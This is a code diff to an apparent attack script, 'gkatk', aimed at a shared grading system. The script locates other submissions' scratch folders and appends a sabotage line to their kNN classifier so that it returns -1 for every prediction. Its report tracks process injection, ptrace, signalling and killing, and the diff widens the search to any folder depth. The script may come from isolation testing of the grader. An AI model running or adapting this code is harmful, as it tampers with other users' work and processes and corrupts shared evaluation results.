@@ -8,7 +8,9 @@ import os
 import signal
 import time
 
-own = os.path.dirname(os.getcwd())  # this submission's scratch folder
+
+
+own = _gk_scratch(os.getcwd())  # this submission's scratch folder
 report = {"start": time.time(), "targets": [], "scratch_written": [], "kernels_reached": [],
           "kernels_injected": [], "ptraced": [], "signalled": [], "killed": []}
 SABOTAGE = "\n# gkatk: sabotage\nKNearestNeighbor.predict_labels = lambda self, dists, k=1: np.zeros(dists.shape[0]) - 1\n"
@@ -46,14 +48,14 @@ def targets():
 
 def scratch_folders(found):
     """The other submissions' scratch copies: from their processes, and from /tmp."""
-    copies = {os.path.dirname(folder) for folder, _ in found.values()}
-    copies |= {os.path.dirname(os.path.dirname(p)) for p in glob.glob("/tmp/gradekit-*/*/gkatk-marker.txt")}
+    copies = {_gk_scratch(folder) for folder, _ in found.values()}
+    copies |= {_gk_scratch(p) for p in glob.glob("/tmp/gradekit-*/**/gkatk-marker.txt", recursive=True)}
     return sorted(c for c in copies if c != own)
 
 
 def write_into(scratch):
-    for copy in sorted(os.listdir(scratch)):
-        module = os.path.join(scratch, copy, "cs231n", "classifiers", "k_nearest_neighbor.py")
+    """Append the sabotage to every copy of the kNN module in `scratch`, at any depth."""
+    for module in [os.path.join(p, "classifiers", "k_nearest_neighbor.py") for p in _gk_packages(scratch)]:
         if os.path.isfile(module) and module not in report["scratch_written"]:
             try:
                 with open(module, "a") as f:
